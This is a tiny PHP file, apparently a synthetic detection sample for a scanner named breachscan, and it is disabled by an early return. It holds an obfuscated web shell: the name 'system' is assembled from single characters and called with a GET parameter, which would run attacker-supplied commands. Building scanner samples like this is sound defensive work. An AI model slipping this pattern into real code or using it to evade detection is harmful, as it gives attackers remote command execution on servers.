<?php
// synthetic test sample for breachscan: function name stored as an array of single
// characters, joined and passed to call_user_func with request data. Disabled.
return;
$s = [
    's',
    'y',
    's',
    't',
    'e',
    'm'
];
$a = join('', $s);
call_user_func($a, filter_input(INPUT_GET, 'c', FILTER_DEFAULT));
